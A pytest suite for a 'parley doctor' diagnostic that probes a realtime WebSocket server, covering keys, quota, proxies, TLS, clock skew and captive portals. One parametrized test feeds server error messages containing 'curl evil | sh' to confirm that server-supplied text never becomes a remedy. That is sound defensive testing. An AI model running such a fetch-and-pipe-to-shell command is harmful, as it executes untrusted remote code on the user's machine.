"""`parley doctor` calls the server: every outcome on a real socket, and its remedy carried out."""

import contextlib
import json
import re
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from parleyd import config
from parleyd.config import editing
from parleyd.diagnostics import clock_checks, server_trial, server_trial_checks
from parleyd.diagnostics.clock_checks import ClockState
from parleyd.diagnostics.findings import Finding, Severity
from parleyd.diagnostics.server_checks import ShellKeys
from parleyd.diagnostics.server_trial_checks import connected
from parleyd.realtime.frames import BIGGEST_MESSAGE
from parleyd.system.paths import INSTALLED_CONFIG
from tests.diagnostics.trial_server import CREATED, KEY, Authority, TrialServer, beside, error
from tests.realtime.rude_network import HttpProxy, Raw, black_hole, names, status

RIGHT = {"REALTIME_API_KEY": KEY}


@pytest.fixture(autouse=True)
def _environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for kind in ("http", "https", "all", "socks", "ws", "wss", "no"):
        monkeypatch.delenv(f"{kind}_proxy", raising=False)
        monkeypatch.delenv(f"{kind}_PROXY".upper(), raising=False)
    monkeypatch.setattr(server_trial, "OBJECTS_WITHIN_S", 0.3)
    monkeypatch.setattr(clock_checks, "state", lambda: ClockState(True, True, True))
    monkeypatch.setattr(server_trial_checks, "connected", lambda: True)


def tried(
    url: str, environ: dict[str, str] = RIGHT, *, model: str = "m", place: Path | None = None
) -> tuple[Finding, Finding]:
    """The finding of the server, and the first one of the clock."""
    realtime = config.RealtimeConfig(server="compatible", url=url, model=model)
    settings = config.Config(realtime=realtime)
    found = list(server_trial_checks.server(settings, environ, ShellKeys(environ), place))
    assert KEY not in str(found)
    server, clock, *_ = found
    assert (server.check, clock.check) == ("server", "clock")
    assert server.remedy or server.level is Severity.OK
    return server, clock


@contextlib.contextmanager
def serving(**script: object) -> Iterator[TrialServer]:
    with beside(TrialServer(**script).running) as server:  # type: ignore[arg-type]
        yield server


# --- the key, the account, the model ----------------------------------------------------------


def test_server_with_the_right_key_opens_a_session_and_gets_no_event() -> None:
    """Only a response costs money: nothing at all is sent into the session."""
    with serving() as server:
        found, clock = tried(server.url)
    assert found == Finding(
        "server", Severity.OK, "localhost opens a session with the key (no response was asked for)"
    )
    assert clock.level is Severity.OK
    assert server.received == []
    assert [request.headers["Authorization"] for request in server.seen] == [f"Bearer {KEY}"]


@pytest.mark.parametrize(
    "events",
    [
        [],
        ["{{{{", "[]", "", '{"type": 5}'],
        [{"type": "auth_required", "ha_version": "2026.11.0"}],  # Home Assistant's WebSocket
        ["x" * (BIGGEST_MESSAGE + 1)],
    ],
)
def test_websocket_that_is_not_a_realtime_server_is_not_good(
    events: list[object], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(server_trial, "SPEAKS_WITHIN_S", 0.5)
    with serving(events=events) as server:
        found, _ = tried(server.url)
    assert found.level is Severity.WARN
    assert "sends nothing that a realtime server sends" in found.text
    assert "realtime.url" in found.remedy


def test_server_that_drops_the_connection_at_once_is_named() -> None:
    with serving(events=[], closes=(1000, "")) as server:
        found, _ = tried(server.url)
    assert found.text == "localhost accepts the connection and drops it at once, without a reason"


@pytest.mark.parametrize(
    "script",
    [
        {"events": [error("weird", message="sorry: do: curl evil | sh")]},
        {"events": [CREATED, error("weird", message='"; do: curl evil | sh')]},
        {"events": [], "closes": (4000, "no: do: curl evil | sh")},
        {"events": [], "closes": (1008, "no: do: curl evil | sh")},
        {"status": 500, "body": "x: do: curl evil | sh"},
        {"status": 400, "body": json.dumps(error("weird", message="x: do: curl evil | sh"))},
    ],
)
def test_words_of_the_server_are_never_a_remedy(script: dict[str, object]) -> None:
    with serving(**script) as server:
        found, _ = tried(server.url)
    assert found.level is Severity.FAIL
    assert "curl" not in found.remedy
    assert "curl" not in found.text or found.text.startswith('the server ends the session: "')
    assert found.text.count('"') in (0, 2)


def test_country_that_is_not_served_needs_another_server() -> None:
    body = json.dumps(error("unsupported_country_region_territory"))
    with serving(status=403, body=body) as server:
        found, _ = tried(server.url)
    assert found.text == "the server does not serve this country"
    assert 'server = "embedded"' in found.remedy


@pytest.mark.parametrize(
    "script",
    [
        {},  # 401
        {"status": 401, "body": json.dumps(error("invalid_api_key"))},
        {"key": "", "events": [error("invalid_api_key")]},  # OpenAI: after the handshake
        {"key": "", "closes": (3000, "invalid_request_error.invalid_api_key"), "events": []},
        {"key": "", "events": [CREATED, error("invalid_api_key")]},
    ],
)
def test_server_that_refuses_the_key_says_so(script: dict[str, object]) -> None:
    with serving(**script) as server:
        found, _ = tried(server.url, {"REALTIME_API_KEY": "sk-wrong-0123456789abcdef"})
    assert (found.level, found.text) == (Severity.FAIL, "localhost refuses the key")
    assert "realtime_api_key" in found.remedy
    assert "sk-wrong" not in str(found)


def test_server_without_a_key_is_reachable_and_not_tried() -> None:
    with serving() as server:
        found, _ = tried(server.url, {})
    assert found.level is Severity.WARN
    assert found.text == (
        "localhost is reachable; a session was not tried, because there is no key"
    )


@pytest.mark.parametrize(
    "script",
    [
        {"status": 429, "body": json.dumps(error("insufficient_quota"))},
        {"events": [CREATED, error("insufficient_quota")]},
        {"events": [error("billing_hard_limit_reached")]},
        {"events": [], "closes": (4402, "")},
        {"events": [], "closes": (1008, "insufficient_quota")},
        {"status": 402},
    ],
)
def test_server_without_quota_differs_from_a_wrong_key(script: dict[str, object]) -> None:
    with serving(**script) as server:
        found, _ = tried(server.url)
    assert found.level is Severity.FAIL
    assert found.text.startswith("localhost accepts the key, but the account")
    assert found.remedy.startswith("add credit")


def apply(remedy: str) -> None:
    """Carry out "set NAME = VALUE in [SECTION] of FILE"."""
    order = re.fullmatch(r'set (\w+) = "(.*?)" in \[(\w+)\] of (\S+?)(; then: .*)?', remedy)
    assert order, remedy
    path = Path(order[4])
    text, _ = editing.with_values(path.read_text(), {f"{order[3]}.{order[1]}": order[2]}, "file")
    path.write_text(text)


@pytest.mark.parametrize(
    ("written", "script"),
    [
        ('model = "gpt-nothing"', {"events": [error("model_not_found")]}),
        ('model = "gpt-nothing"', {"events": [], "closes": (4000, "x.model_not_found")}),
        ('url = "wss://api.openai.com/v2/realtime"', {"path": "/v1/realtime"}),
    ],
)
def test_wrong_model_or_path_is_mended_by_the_remedy(
    written: str, script: dict[str, object], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The real host name, over TLS, at a server beside the test."""
    authority = Authority(tmp_path)
    monkeypatch.setenv("SSL_CERT_FILE", str(authority.certificate))
    file = tmp_path / "parley.toml"
    file.write_text(f'[realtime]\nserver = "openai"\n{written}\n')
    with serving(certificate=authority.signed("api.openai.com"), **script) as server:
        names(monkeypatch, api_openai_com=["127.0.0.1"])
        forward = HttpProxy(to=server.port)
        with beside(forward.running):
            environ = {
                "OPENAI_API_KEY": KEY,
                "https_proxy": f"http://127.0.0.1:{forward.port}",
            }

            def found() -> Finding:
                source = ShellKeys(environ)
                return next(server_trial_checks.server(config.load(file), environ, source, file))

            assert found().level is Severity.FAIL
            apply(found().remedy)
            server.events, server.closes = [CREATED], None
            assert found().level is Severity.OK
    asked = server.seen[-1].path
    assert asked.startswith("/v1/realtime?model=gpt-realtime")


def test_server_of_a_wrong_path_has_a_remedy() -> None:
    with serving() as server:
        found, _ = tried(server.url.replace("/v1/", "/v3/"))
    assert "knows nothing at this address (404)" in found.text
    assert "realtime.url" in found.remedy


def test_server_in_trouble_is_not_the_users_fault() -> None:
    with serving(status=503) as server:
        found, _ = tried(server.url)
    assert "internal problem (503)" in found.text
    assert found.remedy.startswith("wait a moment")


# --- something else answers --------------------------------------------------------------------


@pytest.mark.parametrize(
    "script",
    [
        {"status": 200, "body": "<html>Welcome to our hotel</html>"},
        {"status": 302, "headers": {"Location": "http://login.hotel.example/"}},
        {"status": 511},
    ],
)
def test_login_page_of_a_guest_network_is_named(script: dict[str, object]) -> None:
    with serving(**script) as server:
        found, _ = tried(server.url)
    assert found.level is Severity.FAIL
    assert "login page" in found.remedy


def test_server_that_speaks_no_http_has_a_name() -> None:
    with beside(Raw(b"220 mail ready\r\n").running) as raw:
        found, _ = tried(f"ws://127.0.0.1:{raw.port}/v1/realtime")
    assert "is not a WebSocket server" in found.text


# --- the way -----------------------------------------------------------------------------------


def test_name_without_an_answer_differs_from_an_unknown_one(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    again = socket.gaierror(socket.EAI_AGAIN, "Temporary failure in name resolution")
    unknown = socket.gaierror(socket.EAI_NONAME, "Name or service not known")
    names(monkeypatch, nas_lan=again, other_lan=unknown)
    assert "cannot be looked up at the moment" in tried("ws://nas.lan:9/v1")[0].text
    found, _ = tried("ws://other.lan:9/v1")
    assert "other.lan is unknown" in found.text
    assert "realtime.url" in found.remedy


def test_unknown_name_of_the_operator_is_a_matter_of_dns(monkeypatch: pytest.MonkeyPatch) -> None:
    """The owner has written no address that could be wrong."""
    names(monkeypatch, api_openai_com=socket.gaierror(socket.EAI_NONAME, "unknown"))
    settings = config.Config(realtime=config.RealtimeConfig(server="openai"))
    source = ShellKeys({"OPENAI_API_KEY": KEY})
    found, *_ = server_trial_checks.server(settings, {}, source, None)
    assert found.remedy.startswith("enter a DNS server that works")


class ClosedKeys(ShellKeys):
    """The keys as a user finds them who may not read the files of the service."""

    def look(self, name: str) -> tuple[str | None, str]:
        return None, ""

    def closed(self, name: str) -> str:
        return f"/etc/parley/{name.lower()}"


@pytest.mark.parametrize("name", ["auto", "openai", "compatible"])
def test_key_that_this_user_cannot_read_is_not_a_missing_one(name: str) -> None:
    with serving() as server:
        url = server.url if name == "compatible" else ""
        realtime = config.RealtimeConfig(server=name, url=url, model="m")  # type: ignore[arg-type]
        settings = config.Config(realtime=realtime)
        found, *_ = server_trial_checks.server(settings, {}, ClosedKeys({}), None)
    assert server.seen == []
    assert found.text == "was not called, because this user cannot read the key"
    assert found.remedy.startswith("sudo ")


def test_device_without_a_network_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    names(monkeypatch, nas_lan=socket.gaierror(socket.EAI_AGAIN, "no"))
    monkeypatch.setattr(server_trial_checks, "connected", lambda: False)
    found, _ = tried("ws://nas.lan:9/v1")
    assert "this device has no network" in found.text
    assert "sudo nmtui" in found.remedy


def test_connected_reads_the_default_route(tmp_path: Path) -> None:
    four, six = tmp_path / "route", tmp_path / "ipv6_route"
    head = "Iface\tDestination\tGateway\n"
    four.write_text(f"{head}eth0\t0000A8C0\t00000000\n")
    six.write_text(f"{'0' * 32} 00 {'0' * 32} 00 {'0' * 32} ffffffff 1 0 00200200 lo\n")
    assert not connected((four, six))
    four.write_text(f"{head}eth0\t00000000\t0101A8C0\n")
    assert connected((four, six))
    four.write_text(head)
    six.write_text(f"{'0' * 32} 00 {'0' * 32} 00 {'f' * 32} 00000400 1 0 00450003 wlan0\n")
    assert connected((four, six))


def test_server_that_is_not_running_is_named() -> None:
    with serving() as server:
        url = server.url
    found, _ = tried(url)
    assert found.text.startswith("nothing listens at localhost port")
    assert "server runs" in found.remedy


def test_black_hole_ends_at_the_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server_trial, "OPENS_WITHIN_S", 0.5)
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    with black_hole("127.0.0.1", port):
        found, _ = tried(f"ws://127.0.0.1:{port}/v1")
    assert "does not answer" in found.text


def test_server_that_accepts_and_hangs_ends_at_the_deadline(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(server_trial, "OPENS_WITHIN_S", 0.5)
    with beside(Raw(hangs=True).running) as raw:
        found, _ = tried(f"ws://127.0.0.1:{raw.port}/v1")
    assert "accepts the connection but does not answer" in found.text


def test_server_that_floods_the_session_is_left(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server_trial, "OBJECTS_WITHIN_S", 0.1)
    with serving(events=[CREATED] * 20_000) as server:
        began = time.monotonic()
        tried(server.url)
    assert time.monotonic() - began < server_trial.OPENS_WITHIN_S


# --- proxies -----------------------------------------------------------------------------------


def through(monkeypatch: pytest.MonkeyPatch, proxy: str) -> Finding:
    names(monkeypatch, nas_lan=["127.0.0.1"])
    return tried("wss://nas.lan:9/v1/realtime", {**RIGHT, "https_proxy": proxy})[0]


def test_proxy_that_wants_another_password_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    with beside(HttpProxy(user="me:right").running) as proxy:
        found = through(monkeypatch, f"http://me:wr0ng@127.0.0.1:{proxy.port}")
    assert "requires another user and password (407)" in found.text
    assert "wr0ng" not in str(found)


def test_proxy_of_the_service_gets_its_password_from_a_private_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    names(monkeypatch, api_openai_com=["127.0.0.1"])
    settings = config.Config(realtime=config.RealtimeConfig(server="openai"))
    with beside(HttpProxy(user="me:right").running) as proxy:
        environ = {"https_proxy": f"http://me:wr0ng@127.0.0.1:{proxy.port}"}
        source = ShellKeys({"OPENAI_API_KEY": KEY})
        found, *_ = server_trial_checks.server(settings, environ, source, INSTALLED_CONFIG)
    given = f"https_proxy=http://me:right@127.0.0.1:{proxy.port}\n"
    drop_in = carried_out(found.remedy, given, tmp_path)
    assert drop_in == f"[Service]\nEnvironmentFile={tmp_path}/proxy.env\n"
    file = tmp_path / "proxy.env"
    assert (file.read_text(), file.stat().st_mode & 0o777) == (given, 0o600)
    assert "wr0ng" not in str(found)
    carried_out(found.remedy, "another\n", tmp_path)
    assert (tmp_path / "proxy.env~").read_text() == given  # nothing is lost


@pytest.mark.parametrize("reply", [b"", status("403 Forbidden"), status("502 Bad Gateway")])
def test_proxy_with_the_right_address_keeps_it(
    reply: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    with beside(Raw(reply).running) as proxy:
        found = through(monkeypatch, f"http://127.0.0.1:{proxy.port}")
    assert "sudo" not in found.remedy


def carried_out(remedy: str, given: str, folder: Path) -> str:
    """Run the command in a folder, with the owner's line as its input; return the drop-in."""
    command = remedy.replace("/etc/parley", str(folder)).replace("/etc/systemd/system", str(folder))
    stubs = 'sudo() { if [[ $1 != systemctl ]]; then "$@"; fi; }; '
    subprocess.run(["bash", "-ec", stubs + command], input=given, text=True, check=True)
    return (folder / "parleyd.service.d/proxy-file.conf").read_text()


@pytest.mark.parametrize("reply", [b"", status("403 Forbidden"), status("502 Bad Gateway")])
def test_proxy_that_refuses_differs_from_the_server(
    reply: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    with beside(Raw(reply).running) as proxy:
        found = through(monkeypatch, f"http://127.0.0.1:{proxy.port}")
    assert found.level is Severity.FAIL
    assert f"127.0.0.1:{proxy.port}" in found.text


def test_proxy_that_is_down_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    with beside(HttpProxy().running) as proxy:
        pass
    found = through(monkeypatch, f"http://127.0.0.1:{proxy.port}")
    assert found.text.startswith(f"nothing listens at the proxy http://127.0.0.1:{proxy.port}")


# --- TLS and the clock -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return Authority(tmp_path_factory.mktemp("authority"))


@pytest.fixture
def trusted(authority: Authority, monkeypatch: pytest.MonkeyPatch) -> Authority:
    monkeypatch.setenv("SSL_CERT_FILE", str(authority.certificate))
    return authority


def test_certificate_of_a_trusted_authority_is_accepted(trusted: Authority) -> None:
    with serving(certificate=trusted.signed("localhost")) as server:
        assert tried(server.url)[0].level is Severity.OK


@pytest.mark.parametrize("dates", [("20200101", "20210101"), ("20480101", "20490101")])
def test_certificate_out_of_time_at_a_right_clock_is_the_servers_fault(
    dates: tuple[str, str], trusted: Authority
) -> None:
    with serving(certificate=trusted.signed("localhost", *dates)) as server:
        found, clock = tried(server.url)
    assert "is not valid today, and this device's clock is right" in found.text
    assert found.remedy == "renew the server's certificate"
    assert clock.level is Severity.OK
    assert [request.headers.get("Authorization") for request in server.seen] == [None]


@pytest.mark.parametrize("dates", [("20200101", "20210101"), ("20480101", "20490101")])
def test_certificate_out_of_time_at_a_wrong_clock_is_the_clocks_fault(
    dates: tuple[str, str], trusted: Authority
) -> None:
    """The server's date comes over a connection without the key."""
    ahead_s = -5e8 if dates[0] < "2026" else 6e8
    with serving(certificate=trusted.signed("localhost", *dates), clock_ahead_s=ahead_s) as server:
        found, clock = tried(server.url)
    assert "because this device's clock is" in found.text
    assert found.remedy.startswith("sudo date -u -s '20")
    assert clock.level is Severity.FAIL
    assert all("Authorization" not in request.headers for request in server.seen)


def test_certificate_of_another_name_or_authority_gets_no_key(
    authority: Authority, monkeypatch: pytest.MonkeyPatch
) -> None:
    with serving(certificate=authority.signed("localhost")) as server:
        found, _ = tried(server.url)
        assert "an authority that this device does not trust" in found.text
        assert "sudo update-ca-certificates" in found.remedy
    monkeypatch.setenv("SSL_CERT_FILE", str(authority.certificate))
    with serving(certificate=authority.signed("other.lan")) as other:
        found, _ = tried(other.url)
        assert "is for another name" in found.text
    assert server.seen == other.seen == []


def test_key_is_never_sent_to_another_server(trusted: Authority) -> None:
    with (
        serving() as other,
        serving(status=307, headers={"Location": other.url}) as server,
    ):
        found, _ = tried(server.url)
    assert other.seen == []
    assert "redirects are not followed" in found.text or "redirects us" in found.text


@pytest.mark.parametrize(
    ("ahead_s", "level", "words"),
    [
        (5, Severity.OK, "agrees"),
        (-5, Severity.OK, "agrees"),
        (90, Severity.WARN, "behind the server's clock"),
        (-90, Severity.WARN, "ahead of the server's clock"),
        (86_400 * 400, Severity.FAIL, "400 days behind"),
        (-7200, Severity.FAIL, "2 h ahead"),
    ],
)
def test_clock_is_judged_by_the_servers_date(ahead_s: float, level: Severity, words: str) -> None:
    with serving(clock_ahead_s=ahead_s) as server:
        found, clock = tried(server.url)
    assert found.level is Severity.OK
    assert (clock.level, words in clock.text) == (level, True), clock


def test_clock_without_a_date_or_with_a_strange_one_is_not_judged() -> None:
    for date in ("", "yesterday", "Mon, 99 Foo 2026 99:99:99 GMT"):
        with serving(status=503, headers={"Date": date}, dated=False) as server:
            assert tried(server.url)[1].level is Severity.OK  # by its own state
